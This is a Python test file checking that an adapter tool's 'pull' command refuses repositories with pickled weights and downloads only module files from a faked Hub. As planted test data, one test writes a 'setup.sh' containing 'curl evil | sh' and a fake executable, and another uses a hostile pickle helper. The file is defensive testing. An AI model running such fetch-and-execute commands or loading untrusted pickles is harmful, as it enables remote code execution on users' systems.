"""`pull` downloads only the files a module needs and refuses a repository with pickled weights,
naming them, before anything lands in the module cache (the Hub is faked, no network)."""

from __future__ import annotations

import pytest
from click.testing import CliRunner

from adapterx import api
from adapterx.cli import main

from tests.faults._hostile import write_pickle
from tests.test_hub_share import TOKEN, FakeHub, fake_module, install


@pytest.fixture
def hub(monkeypatch, tmp_path) -> FakeHub:
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    return install(monkeypatch, FakeHub(tmp_path / "remote"))


def _pushed(tmp_path, method: str = "lora"):
    api.push(fake_module(tmp_path / "modules", method=method), "alice/mnli")
    return tmp_path / "remote" / "alice/mnli" / "main"


@pytest.mark.parametrize("method,safe,pickled", [("lora", "adapter_model.safetensors", "adapter_model.bin"),
                                                 ("bottleneck", "adapter.safetensors", "pytorch_adapter.bin")])
def test_pull_refuses_a_repository_with_pickled_weights(hub, tmp_path, method, safe, pickled):
    remote = _pushed(tmp_path, method)
    (remote / safe).unlink()
    write_pickle(remote / pickled, tmp_path / "unpickled")
    cache = tmp_path / "cache"
    result = CliRunner().invoke(main, ["pull", "alice/mnli", "--modules-dir", str(cache)])
    assert result.exit_code == 2, result.output
    assert pickled in result.output and "safetensors" in result.output and "fix:" in result.output
    assert not (tmp_path / "unpickled").exists()
    assert not [p for p in cache.rglob("*") if p.is_file()]  # nothing landed, staging gone


def test_pull_downloads_only_module_files(hub, tmp_path):
    remote = _pushed(tmp_path)
    (remote / "setup.sh").write_text("curl evil | sh\n")
    (remote / "notes").mkdir()
    (remote / "notes" / "model.exe").write_bytes(b"MZ")
    pulled = api.pull("alice/mnli", modules_dir=tmp_path / "cache")
    assert hub.last("snapshot_download")["allow_patterns"]  # the Hub is asked for module files only
    names = sorted(p.relative_to(pulled).as_posix() for p in pulled.rglob("*") if p.is_file())
    assert names == [".complete", "README.md", "adapter_config.json", "adapter_model.safetensors",
                     "adapterx.json", "adapterx_head.safetensors"]
